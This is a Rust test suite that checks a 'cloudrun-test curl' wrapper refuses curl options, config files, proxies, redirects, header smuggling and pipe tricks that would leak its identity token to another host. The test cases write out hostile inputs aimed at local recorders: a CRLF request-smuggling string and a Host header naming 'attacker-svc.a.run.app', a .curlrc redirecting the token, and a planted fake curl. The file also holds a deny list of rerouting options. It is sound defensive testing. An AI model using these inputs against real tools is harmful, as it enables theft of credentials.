//! Hostile cases: `cloudrun-test curl`. curl sends the token header to every URL it is
//! given and obeys its own config files, abbreviations, proxies and redirects; each
//! case tries one of those ways out with the real binary and the real curl against
//! the emulator, and a [`Recorder`] standing for the other host: it must receive
//! nothing. Refusals must come before curl starts (a [`Spy`] wrapper around curl
//! records whether it ran), name the argument and say what to do instead.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};
use std::sync::{Arc, Mutex, mpsc};
use std::time::Duration;

use cloudrun_test_e2e::recorder::{Recorded, Recorder, response};
use cloudrun_test_emulator::{Emulator, Fault, ServiceConfig, Upstream};
use serde_json::Value;

use crate::support::{self, Fixture, TESTER, assert_no_token, output_text};

/// A wrapper around the real curl, named by `CLOUDRUN_TEST_CURL`: records that it ran,
/// its arguments and its environment, then runs curl.
struct Spy {
    dir: tempfile::TempDir,
}

impl Spy {
    fn new() -> Spy {
        let dir = tempfile::tempdir().unwrap();
        let script = format!(
            "#!/bin/sh\n\
             for arg in \"$@\"; do printf '%s\\n' \"$arg\"; done > '{dir}/argv'\n\
             env > '{dir}/environ'\n\
             exec curl \"$@\"\n",
            dir = dir.path().display()
        );
        let path = dir.path().join("curl");
        std::fs::write(&path, script).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
        Spy { dir }
    }

    fn env(&self) -> (String, String) {
        let path = self.dir.path().join("curl");
        ("CLOUDRUN_TEST_CURL".into(), path.display().to_string())
    }

    fn ran(&self) -> bool {
        self.dir.path().join("argv").exists()
    }

    fn record(&self, name: &str) -> String {
        std::fs::read_to_string(self.dir.path().join(name)).unwrap_or_default()
    }
}

/// The emulator, its `hello` echo service (which admits [`TESTER`]), and a home folder.
struct World {
    fixture: Fixture,
    home: tempfile::TempDir,
    spy: Spy,
}

impl World {
    fn new() -> World {
        World::with(Emulator::builder())
    }

    fn with(builder: cloudrun_test_emulator::EmulatorBuilder) -> World {
        let builder = builder
            .service(ServiceConfig::new("hello").invoker(&format!("serviceAccount:{TESTER}")));
        World {
            fixture: Fixture::start(builder),
            home: tempfile::tempdir().unwrap(),
            spy: Spy::new(),
        }
    }

    fn url(&self, service: &str) -> String {
        self.fixture
            .emulator
            .service_url(service)
            .unwrap()
            .to_string()
    }

    /// `cloudrun-test curl ARGS` through the spy, with `extra` in the environment.
    fn curl(&self, args: &[&str], extra: &[(&str, &str)]) -> Output {
        let mut env = self.fixture.environment(TESTER);
        env.push(self.spy.env());
        env.extend(
            extra
                .iter()
                .map(|(name, value)| (name.to_string(), value.to_string())),
        );
        let mut all = vec!["curl"];
        all.extend_from_slice(args);
        support::run(&all, &env, self.home.path())
    }

    /// The token `cloudrun-test curl` sends to `hello` (from the same disk cache).
    fn token(&self) -> String {
        let url = self.fixture.emulator.service_url("hello").unwrap();
        support::token(
            &url.origin().ascii_serialization(),
            &self.fixture.environment(TESTER),
            self.home.path(),
        )
    }
}

/// A service `name` admitting [`TESTER`] whose app is `upstream`.
fn service_behind(name: &str, upstream: &Recorder) -> ServiceConfig {
    ServiceConfig::new(name)
        .invoker(&format!("serviceAccount:{TESTER}"))
        .upstream(Upstream::Url(upstream.url.clone()))
}

fn ok() -> String {
    response(200, &[], "ok")
}

/// The refusal contract: exit 1 before curl starts, an error naming `named` with a
/// fix, and nothing reached the other host.
fn assert_refused(world: &World, output: &Output, named: &str, other: &Recorder) {
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{}", output_text(output));
    assert!(
        stderr.starts_with("error: ") && stderr.contains(named) && stderr.contains("\nfix: "),
        "the error names {named} and the fix: {stderr}"
    );
    assert!(!world.spy.ran(), "curl was started: {stderr}");
    assert!(
        other.requests().is_empty(),
        "the other host was reached: {:?}",
        other.requests()
    );
    assert!(!stderr.contains("panicked"), "{stderr}");
}

/// The echo service answered `output` as TESTER, with a 200.
fn assert_served(output: &Output) {
    assert!(output.status.success(), "{}", output_text(output));
    let echo: Value = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|_| panic!("not the echo's JSON: {}", output_text(output)));
    assert_eq!(echo["caller"], TESTER, "{}", output_text(output));
}

#[test]
fn a_second_url_with_a_scheme_is_refused_before_curl_starts() {
    let world = World::new();
    let other = Recorder::start(|_| ok());
    let output = world.curl(
        &[&world.url("hello"), "-sS", other.at("/steal").as_str()],
        &[],
    );
    assert_refused(&world, &output, other.at("/steal").as_str(), &other);
    assert!(String::from_utf8_lossy(&output.stderr).contains("another URL"));
}

#[test]
fn a_second_url_without_a_scheme_is_refused_too() {
    let world = World::new();
    let other = Recorder::start(|_| ok());
    let bare = format!("127.0.0.1:{}/steal", other.url.port().unwrap());
    let output = world.curl(&[&world.url("hello"), &bare], &[]);
    assert_refused(&world, &output, &bare, &other);
}

#[test]
fn url_options_and_the_end_of_options_marker_are_refused() {
    let world = World::new();
    let other = Recorder::start(|_| ok());
    let steal = other.at("/steal").to_string();
    for (args, named) in [
        (vec!["--url", steal.as_str()], "--url"),
        (vec!["--", steal.as_str()], "`--`"),
        (vec!["-:", steal.as_str()], "-:"),
        (vec!["--next", steal.as_str()], "--next"),
    ] {
        let mut all = vec![world.url("hello")];
        all.extend(args.iter().map(|arg| arg.to_string()));
        let all: Vec<&str> = all.iter().map(String::as_str).collect();
        assert_refused(&world, &world.curl(&all, &[]), named, &other);
    }
}

#[test]
fn abbreviated_options_are_refused_and_write_no_trace() {
    let world = World::new();
    let other = Recorder::start(|_| ok());
    let trace = world.home.path().join("trace.txt");
    let output = world.curl(
        &[&world.url("hello"), "--trace-a", trace.to_str().unwrap()],
        &[],
    );
    assert_refused(&world, &output, "--trace-a", &other);
    assert!(
        String::from_utf8_lossy(&output.stderr).contains("--trace-ascii"),
        "the error says which option curl would have taken"
    );
    assert!(!trace.exists(), "a trace file was written");
    let output = world.curl(&[&world.url("hello"), "--locat"], &[]);
    assert_refused(&world, &output, "--locat", &other);
}

#[test]
fn a_config_file_naming_another_url_is_refused() {
    let world = World::new();
    let other = Recorder::start(|_| ok());
    let config = world.home.path().join("evil.curl");
    std::fs::write(&config, format!("url = \"{}\"\n", other.at("/steal"))).unwrap();
    for flag in ["-K", "--config"] {
        let output = world.curl(&[&world.url("hello"), flag, config.to_str().unwrap()], &[]);
        assert_refused(&world, &output, flag, &other);
    }
}

/// Writes a `.curlrc` (as `name` in `dir`) that would send the token to `other`,
/// through it as a proxy, and into `trace`.
fn hostile_curlrc(dir: &Path, name: &str, other: &Recorder, trace: &Path) {
    std::fs::create_dir_all(dir).unwrap();
    let text = format!(
        "url = \"{steal}\"\nproxy = \"{proxy}\"\ntrace-ascii = \"{trace}\"\n",
        steal = other.at("/steal"),
        proxy = other.url,
        trace = trace.display()
    );
    std::fs::write(dir.join(name), text).unwrap();
}

#[test]
fn curlrc_files_in_home_curl_home_and_xdg_config_home_are_never_read() {
    let world = World::new();
    let other = Recorder::start(|_| ok());
    let trace = world.home.path().join("trace.txt");
    let curl_home = world.home.path().join("curl-home");
    let xdg = world.home.path().join("xdg");
    hostile_curlrc(world.home.path(), ".curlrc", &other, &trace);
    hostile_curlrc(&curl_home, ".curlrc", &other, &trace);
    hostile_curlrc(&xdg, ".curlrc", &other, &trace);
    let output = world.curl(
        &[&world.url("hello"), "-sS"],
        &[
            ("CURL_HOME", curl_home.to_str().unwrap()),
            ("XDG_CONFIG_HOME", xdg.to_str().unwrap()),
        ],
    );
    assert_served(&output);
    assert!(other.requests().is_empty(), "{:?}", other.requests());
    assert!(!trace.exists(), "curl read a .curlrc and wrote a trace");
    let argv = world.spy.record("argv");
    assert_eq!(argv.lines().next(), Some("-q"), "-q comes first: {argv}");
    assert!(!world.spy.record("environ").contains("CURL_HOME="));
}

#[test]
fn proxy_variables_never_carry_a_loopback_services_token_to_the_proxy() {
    let world = World::new();
    let proxy = Recorder::start(|_| ok());
    let proxy_url = proxy.url.to_string();
    let keylog = world.home.path().join("keys.log");
    let mut env: Vec<(&str, &str)> = [
        "http_proxy",
        "HTTP_PROXY",
        "https_proxy",
        "HTTPS_PROXY",
        "ALL_PROXY",
        "all_proxy",
    ]
    .iter()
    .map(|name| (*name, proxy_url.as_str()))
    .collect();
    env.push(("SSLKEYLOGFILE", keylog.to_str().unwrap()));
    let output = world.curl(&[&world.url("hello"), "-sS"], &env);
    assert_served(&output);
    assert!(proxy.requests().is_empty(), "{:?}", proxy.requests());
    let environ = world.spy.record("environ");
    for name in [
        "http_proxy=",
        "HTTPS_PROXY=",
        "ALL_PROXY=",
        "SSLKEYLOGFILE=",
    ] {
        assert!(
            !environ.lines().any(|line| line.starts_with(name)),
            "curl's environment has {name}"
        );
    }
    assert!(
        world.spy.record("argv").contains("--noproxy\n*\n"),
        "no proxy: curl is told so"
    );
}

#[test]
fn a_redirect_to_another_origin_is_not_followed_even_with_x_serverless() {
    let other = Recorder::start(|_| ok());
    let target = other.at("/steal").to_string();
    let app = Recorder::start(move |_| response(302, &[("location", &target)], "moved"));
    let world = World::with(Emulator::builder().service(service_behind("moving", &app)));
    for extra in [&[][..], &["--x-serverless"]] {
        let mut args = vec![world.url("moving")];
        args.extend(["-sSL".to_string()]);
        args.extend(extra.iter().map(|arg| arg.to_string()));
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let output = world.curl(&args, &[]);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(0), "{}", output_text(&output));
        assert!(
            stderr.contains(&format!(
                "not following the 302 redirect to {}",
                other.url.origin().ascii_serialization()
            )),
            "{stderr}"
        );
        assert_eq!(String::from_utf8_lossy(&output.stdout), "moved");
        assert!(other.requests().is_empty(), "{:?}", other.requests());
    }
    assert_eq!(app.requests().len(), 2, "the service itself was asked");
}

#[test]
fn a_redirect_within_the_origin_is_followed_as_curl_would() {
    let app = Recorder::start(|request: &Recorded| match request.target.as_str() {
        "/start" => response(302, &[("location", "/final?x=1")], "redirect body"),
        _ => response(200, &[], "final body"),
    });
    let world = World::with(Emulator::builder().service(service_behind("moving", &app)));
    let start = format!("{}start", world.url("moving"));
    let output = world.curl(&[&start, "-sSL", "-d", "a=1"], &[]);
    assert!(output.status.success(), "{}", output_text(&output));
    assert_eq!(String::from_utf8_lossy(&output.stdout), "final body");
    let requests = app.requests();
    let seen: Vec<(&str, &str)> = requests
        .iter()
        .map(|request| (request.method.as_str(), request.target.as_str()))
        .collect();
    // A POST answered by 302 becomes a GET without the body, as curl does.
    assert_eq!(seen, [("POST", "/start"), ("GET", "/final?x=1")]);
    assert!(requests[1].body.is_empty());
    assert!(
        requests[1].header("authorization").is_some(),
        "the token went along, within the origin"
    );
}

#[test]
fn a_redirect_loop_stops_at_max_redirs_with_curls_status() {
    let app = Recorder::start(|_| response(307, &[("location", "/again")], ""));
    let world = World::with(Emulator::builder().service(service_behind("looping", &app)));
    let output = world.curl(&[&world.url("looping"), "-sL", "--max-redirs", "3"], &[]);
    assert_eq!(output.status.code(), Some(47), "{}", output_text(&output));
    assert!(String::from_utf8_lossy(&output.stderr).contains("stopped after 3 redirects"));
    assert_eq!(app.requests().len(), 4);
}

#[test]
fn the_max_time_bounds_the_whole_command_across_redirects_as_curl_does() {
    // Each answer takes 300 ms and redirects again: -m 1 must end the chain near 1 s
    // with curl's timeout status, not give every one of 20 hops its own second.
    let app = Recorder::start(|_| {
        std::thread::sleep(Duration::from_millis(300));
        response(307, &[("location", "/again")], "")
    });
    let world = World::with(Emulator::builder().service(service_behind("slow", &app)));
    let started = std::time::Instant::now();
    let output = world.curl(
        &[&world.url("slow"), "-sSL", "--max-redirs", "20", "-m", "1"],
        &[],
    );
    let took = started.elapsed();
    assert_eq!(output.status.code(), Some(28), "{}", output_text(&output));
    let requests = app.requests().len();
    assert!((2..=5).contains(&requests), "{requests} requests");
    assert!(took < Duration::from_secs(4), "took {took:?}");
}

#[test]
fn verbose_output_shows_no_token_across_redirects() {
    let app = Recorder::start(|request: &Recorded| match request.target.as_str() {
        "/start" => response(303, &[("location", "/final")], ""),
        _ => response(200, &[], "final body"),
    });
    let world = World::with(Emulator::builder().service(service_behind("moving", &app)));
    let token = world.token();
    let start = format!("{}start", world.url("moving"));
    let output = world.curl(&[&start, "-sSvL"], &[]);
    assert!(output.status.success(), "{}", output_text(&output));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(
        stderr.matches("> Authorization: Bearer <redacted>").count(),
        2,
        "both requests are logged, redacted: {stderr}"
    );
    assert_no_token(&output_text(&output), &token, "curl -v's log");
}

#[test]
fn the_url_is_never_a_glob_pattern() {
    // The recorder plays the service (loopback: the token may go there).
    let service = Recorder::start(|_| ok());
    let world = World::new();
    let pattern = format!("{}x[1-2]", service.url);
    let output = world.curl(&[&pattern, "-sS"], &[]);
    assert!(output.status.success(), "{}", output_text(&output));
    let targets: Vec<String> = service
        .requests()
        .iter()
        .map(|request| request.target.clone())
        .collect();
    assert_eq!(targets, ["/x[1-2]"], "one request, the URL taken literally");
}

#[test]
fn options_naming_curls_inherited_pipes_are_refused_and_never_hang() {
    // curl writes the response headers into one of them itself: reading it would
    // never end. The other holds the token's header.
    let world = World::new();
    let other = Recorder::start(|_| ok());
    for (option, value) in [
        ("-w", "@/dev/fd/3"),
        ("-w", "@/dev/fd/5"),
        ("-d", "@/proc/self/fd/5"),
        ("-H", "@/dev/fd/3"),
        ("-o", "/dev/fd/5"),
    ] {
        let output = world.curl(&[&world.url("hello"), "-s", option, value], &[]);
        assert_refused(&world, &output, value, &other);
    }
}

#[test]
fn options_that_write_traffic_or_reroute_the_connection_are_refused() {
    let world = World::new();
    let other = Recorder::start(|_| ok());
    let file = world.home.path().join("out.txt");
    let file = file.to_str().unwrap();
    let proxy = other.url.to_string();
    let at_other = format!(
        "{}:{}",
        other.url.host_str().unwrap(),
        other.url.port().unwrap()
    );
    let connect_to = format!("::{at_other}");
    let cases: &[(&[&str], &str)] = &[
        (&["--trace", file], "--trace"),
        (&["--trace-ascii", file], "--trace-ascii"),
        (&["--libcurl", file], "--libcurl"),
        (&["-v", "--stderr", file], "--stderr"),
        (&["-x", &proxy], "-x"),
        (&["--proxy", &proxy], "--proxy"),
        (&["--preproxy", &proxy], "--preproxy"),
        (&["--socks5-hostname", &at_other], "--socks5-hostname"),
        (&["--connect-to", &connect_to], "--connect-to"),
        (&["--location-trusted"], "--location-trusted"),
        (&["-k"], "-k"),
        (&["-T", file], "-T"),
        (&["-u", "user:password"], "-u"),
        (&["--variable", "a=b"], "--variable"),
        (&["-H", "Authorization: Basic c2VjcmV0"], "Authorization"),
        (&["-L", "-D", file], "-D"),
    ];
    for (args, named) in cases {
        let mut all = vec![world.url("hello")];
        all.extend(args.iter().map(|arg| arg.to_string()));
        let all: Vec<&str> = all.iter().map(String::as_str).collect();
        let output = world.curl(&all, &[]);
        assert_refused(&world, &output, named, &other);
        assert!(
            !String::from_utf8_lossy(&output.stderr).contains("c2VjcmV0"),
            "a refused header's value is not shown"
        );
        assert!(!PathBuf::from(file).exists(), "{args:?} wrote {file}");
    }
}

#[test]
fn unknown_options_are_refused_with_the_raw_curl_recipe() {
    let world = World::new();
    let other = Recorder::start(|_| ok());
    let output = world.curl(&[&world.url("hello"), "--http3"], &[]);
    assert_refused(&world, &output, "--http3", &other);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("cloudrun-test token --audience") && stderr.contains("curl -q -H @-"),
        "{stderr}"
    );
}

/// A plain TCP listener on 127.0.0.1 standing for the service: it keeps every byte
/// each connection sends (so two requests pipelined on one connection show as two),
/// then answers 200 and closes.
struct RawListener {
    url: String,
    bytes: Arc<Mutex<Vec<u8>>>,
}

impl RawListener {
    fn start() -> RawListener {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}/", listener.local_addr().unwrap());
        let bytes = Arc::new(Mutex::new(Vec::new()));
        let kept = Arc::clone(&bytes);
        // Ends with the test process; the listener is never dropped before that.
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
                let mut buffer = [0u8; 8192];
                while let Ok(read @ 1..) = stream.read(&mut buffer) {
                    kept.lock().unwrap().extend_from_slice(&buffer[..read]);
                }
                let _ = stream.write_all(
                    b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok",
                );
            }
        });
        RawListener { url, bytes }
    }

    fn received(&self) -> String {
        String::from_utf8_lossy(&self.bytes.lock().unwrap()).into_owned()
    }
}

impl World {
    /// `cloudrun-test curl ARGS` through the spy, run in `dir`, killed (with curl) if
    /// it has not finished within 20 seconds: a hang is a failure, not a stuck suite.
    fn curl_in(&self, dir: &Path, args: &[&str], extra: &[(&str, &str)]) -> Output {
        let mut env = self.fixture.environment(TESTER);
        env.push(self.spy.env());
        env.extend(extra.iter().map(|(n, v)| (n.to_string(), v.to_string())));
        let mut all = vec!["curl"];
        all.extend_from_slice(args);
        let mut command = support::command(&all, &env, self.home.path());
        command
            .current_dir(dir)
            .process_group(0)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let child = command.spawn().expect("the binary runs");
        let pid = child.id();
        let (done, finished) = mpsc::channel();
        let waiter = std::thread::spawn(move || {
            let output = child.wait_with_output();
            let _ = done.send(());
            output
        });
        if finished.recv_timeout(Duration::from_secs(20)).is_err() {
            // Our child's own process group: cloudrun-test and the curl it started.
            let group = -(i32::try_from(pid).unwrap());
            // SAFETY: a plain syscall.
            unsafe { libc::kill(group, libc::SIGKILL) };
            let output = waiter.join().unwrap().unwrap();
            panic!(
                "cloudrun-test curl {args:?} hung:\n{}",
                output_text(&output)
            );
        }
        waiter.join().unwrap().unwrap()
    }

    /// The fd of curl's response-header pipe (`-D /dev/fd/M`) in the spy's last run.
    fn dump_fd(&self) -> String {
        let argv = self.spy.record("argv");
        let args: Vec<&str> = argv.lines().collect();
        args.windows(2)
            .find_map(|pair| (pair[0] == "-D").then(|| pair[1]))
            .and_then(|dump| dump.strip_prefix("/dev/fd/"))
            .unwrap_or_else(|| panic!("our -D pipe is named: {argv}"))
            .to_owned()
    }
}

/// The refusal contract for a value naming a file: exit 1 before curl starts, the
/// value named, where it leads, and the fix.
fn assert_file_refused(world: &World, output: &Output, value: &str) {
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{}", output_text(output));
    assert!(
        stderr.contains(value) && stderr.contains("/proc/") && stderr.contains("\nfix: "),
        "the error names {value}, where it leads and the fix: {stderr}"
    );
    assert!(!world.spy.ran(), "curl was started: {stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
}

#[test]
fn line_breaks_in_the_user_agent_or_referer_cannot_smuggle_a_request_to_another_host() {
    // Without the check, curl sends two pipelined requests on the service's
    // connection: the second names another Host and carries the token.
    let world = World::new();
    let service = RawListener::start();
    let smuggled = "x\r\n\r\nGET /steal HTTP/1.1\r\nHost: attacker-svc.a.run.app\r\nX-Pad: ";
    for (option, long) in [
        ("-A", "--user-agent"),
        ("--user-agent", "--user-agent"),
        ("-e", "--referer"),
        ("--referer", "--referer"),
    ] {
        let output = world.curl_in(
            world.home.path(),
            &[&service.url, "-sS", option, smuggled],
            &[],
        );
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(1), "{}", output_text(&output));
        assert!(
            stderr.contains(long)
                && stderr.contains("control character")
                && stderr.contains("\nfix: "),
            "{option}: {stderr}"
        );
        assert!(!world.spy.ran(), "curl was started with {option}");
    }
    let received = service.received();
    assert!(
        !received.contains("/steal") && !received.contains("attacker-svc"),
        "a request was smuggled: {received:?}"
    );
    assert!(
        received.is_empty(),
        "nothing reached the service: {received:?}"
    );
}

#[test]
fn a_host_header_is_refused_inline_and_in_a_header_file() {
    // Domain fronting: the token would travel on the service's connection naming
    // another virtual host.
    let world = World::new();
    let other = Recorder::start(|_| ok());
    let url = world.url("hello");
    for header in [
        "Host: attacker-svc.a.run.app",
        "host:attacker-svc.a.run.app",
    ] {
        let output = world.curl(&[&url, "-sS", "-H", header], &[]);
        assert_refused(&world, &output, "-H", &other);
        assert!(String::from_utf8_lossy(&output.stderr).contains("another host"));
    }
    for (name, text, why) in [
        (
            "host.txt",
            "Accept: */*\nHost: attacker-svc.a.run.app\n",
            "another host",
        ),
        (
            "auth.txt",
            "Accept: */*\r\nAuthorization: Basic c2VjcmV0\r\n",
            "Authorization",
        ),
    ] {
        let file = world.home.path().join(name);
        std::fs::write(&file, text).unwrap();
        let value = format!("@{}", file.display());
        let output = world.curl(&[&url, "-sS", "-H", &value], &[]);
        assert_refused(&world, &output, &value, &other);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(
            stderr.contains(why) && stderr.contains("line 2"),
            "{stderr}"
        );
        assert!(
            !stderr.contains("c2VjcmV0"),
            "a header's value is not shown"
        );
    }
}

#[test]
fn a_header_files_checked_lines_reach_the_service_through_our_pipe() {
    let service = Recorder::start(|_| ok());
    let world = World::new();
    let file = world.home.path().join("headers.txt");
    std::fs::write(&file, "X-From-File: yes\r\n\r\nX-Second: 2\n").unwrap();
    let value = format!("@{}", file.display());
    let output = world.curl(&[service.url.as_str(), "-sS", "-H", &value], &[]);
    assert!(output.status.success(), "{}", output_text(&output));
    let requests = service.requests();
    assert_eq!(requests.len(), 1, "{requests:?}");
    assert_eq!(requests[0].header("x-from-file").as_deref(), Some("yes"));
    assert_eq!(requests[0].header("x-second").as_deref(), Some("2"));
    // curl never opens the file: what it reads is what was checked.
    let argv = world.spy.record("argv");
    assert!(!argv.contains("headers.txt"), "{argv}");
}

#[test]
fn any_spelling_of_curls_inherited_pipes_is_refused_and_never_hangs() {
    // curl writes the response headers into one of its inherited pipes itself:
    // reading it never ends, and writing a body into it forges the 401 diagnosis.
    let world = World::new();
    let url = world.url("hello");
    let output = world.curl(&[&url, "-s", "-o", "/dev/null"], &[]);
    assert!(output.status.success(), "{}", output_text(&output));
    let fd = world.dump_fd();
    std::fs::remove_file(world.spy.dir.path().join("argv")).unwrap();

    let link = world.home.path().join("format");
    std::os::unix::fs::symlink(format!("/dev/fd/{fd}"), &link).unwrap();
    let link = link.display().to_string();
    let twice = format!("/dev//fd/{fd}");
    let relative = format!("fd/{fd}");
    let home = world.home.path().to_path_buf();
    let cases: Vec<(&Path, [String; 2])> = vec![
        (&home, ["-d".into(), format!("@{twice}")]),
        (&home, ["-w".into(), format!("@{twice}")]),
        (&home, ["-w".into(), format!("@{link}")]),
        (&home, ["--data-binary".into(), format!("@{link}")]),
        (&home, ["-o".into(), twice.clone()]),
        (&home, ["-D".into(), link.clone()]),
        (&home, ["-F".into(), format!("f=@{link}")]),
        (&home, ["--cacert".into(), twice.clone()]),
        (Path::new("/dev"), ["-d".into(), format!("@{relative}")]),
        (Path::new("/dev"), ["-o".into(), relative.clone()]),
    ];
    for (dir, [option, value]) in &cases {
        let output = world.curl_in(dir, &[&url, "-s", option, value], &[]);
        let shown = value.trim_start_matches('@').trim_start_matches("f=@");
        assert_file_refused(&world, &output, shown);
    }
    // The pipes' numbers may shift between runs: every low one, spelled around the check.
    for fd in 3..=8 {
        let value = format!("@/dev//fd/{fd}");
        let output = world.curl_in(&home, &[&url, "-s", "-w", &value], &[]);
        assert_file_refused(&world, &output, &value[1..]);
    }
}

#[test]
fn fifos_are_refused_as_files_curl_would_read() {
    let world = World::new();
    let fifo = world.home.path().join("fifo");
    let path = std::ffi::CString::new(fifo.display().to_string()).unwrap();
    // SAFETY: a valid C string.
    assert_eq!(unsafe { libc::mkfifo(path.as_ptr(), 0o600) }, 0);
    let value = format!("@{}", fifo.display());
    let output = world.curl_in(world.home.path(), &[&world.url("hello"), "-d", &value], &[]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{}", output_text(&output));
    assert!(
        stderr.contains("FIFO") && stderr.contains("\nfix: "),
        "{stderr}"
    );
    assert!(!world.spy.ran());
}

#[test]
fn the_token_variable_is_not_in_curls_environment() {
    let world = World::new();
    let token = world.token();
    let output = world.curl(
        &[&world.url("hello"), "-sS"],
        &[
            ("CLOUDRUN_TEST_ID_TOKEN", &token),
            // Curl's environment is an allowlist: a variable nobody vetted stays out.
            ("CURL_SOMETHING_NEW", "1"),
        ],
    );
    assert_served(&output);
    let environ = world.spy.record("environ");
    assert!(!environ.is_empty(), "the spy recorded curl's environment");
    assert!(
        !environ
            .lines()
            .any(|line| line.starts_with("CLOUDRUN_TEST_ID_TOKEN=")),
        "curl inherited CLOUDRUN_TEST_ID_TOKEN"
    );
    assert!(
        !environ.contains("CURL_SOMETHING_NEW"),
        "curl inherited a variable that is not on the allowlist"
    );
    assert!(environ.contains("PATH="), "curl keeps PATH");
    assert_no_token(&environ, &token, "curl's environment");
}

#[test]
fn a_token_that_cannot_be_had_starts_no_curl() {
    // A curl started before the token is in hand would send the request without it if
    // cloudrun-test died meanwhile: curl starts only once the token is there.
    let world = World::new();
    let service = Recorder::start(|_| ok());
    world
        .fixture
        .emulator
        .inject(Fault::TokenErrors {
            status: 400,
            times: 1,
        })
        .unwrap();
    let output = world.curl(&[service.at("/").as_str(), "-sS", "-d", "x=1"], &[]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{}", output_text(&output));
    assert!(
        stderr.starts_with("error: ") && stderr.contains("400"),
        "{stderr}"
    );
    assert!(!world.spy.ran(), "curl was started: {stderr}");
    assert!(service.requests().is_empty(), "a request was sent");
}

#[test]
fn curl_is_never_taken_from_a_relative_folder_of_path() {
    // `.` (or an empty entry) in PATH would run whatever `curl` the current folder holds.
    let world = World::new();
    let folder = tempfile::tempdir().unwrap();
    let planted = folder.path().join("curl");
    std::fs::write(&planted, "#!/bin/sh\ntouch planted-ran\nexit 0\n").unwrap();
    std::fs::set_permissions(&planted, std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = format!(".::{}", std::env::var("PATH").unwrap());
    let mut env = world.fixture.environment(TESTER);
    env.push(("PATH".into(), path));
    let mut command = support::command(
        &["curl", &world.url("hello"), "-sS"],
        &env,
        world.home.path(),
    );
    let output = command.current_dir(folder.path()).output().unwrap();
    assert_served(&output);
    assert!(
        !folder.path().join("planted-ran").exists(),
        "the planted curl ran"
    );
}

#[test]
fn curl_is_found_in_bin_or_usr_bin_when_path_is_unset() {
    let world = World::new();
    let env = world.fixture.environment(TESTER);
    let mut command = support::command(
        &["curl", &world.url("hello"), "-sS"],
        &env,
        world.home.path(),
    );
    let output = command.env_remove("PATH").output().unwrap();
    assert_served(&output);
}

#[test]
fn a_curl_path_that_does_not_exist_is_a_clear_error_naming_the_variable() {
    let world = World::new();
    let missing = world.home.path().join("no-such-curl");
    let missing = missing.display().to_string();
    let mut env = world.fixture.environment(TESTER);
    env.push(("CLOUDRUN_TEST_CURL".into(), missing.clone()));
    let output = support::run(
        &["curl", &world.url("hello"), "-sS"],
        &env,
        world.home.path(),
    );
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{}", output_text(&output));
    assert!(
        stderr.contains(&format!("`{missing}` was not found"))
            && stderr.contains("fix: check CLOUDRUN_TEST_CURL"),
        "{stderr}"
    );
}
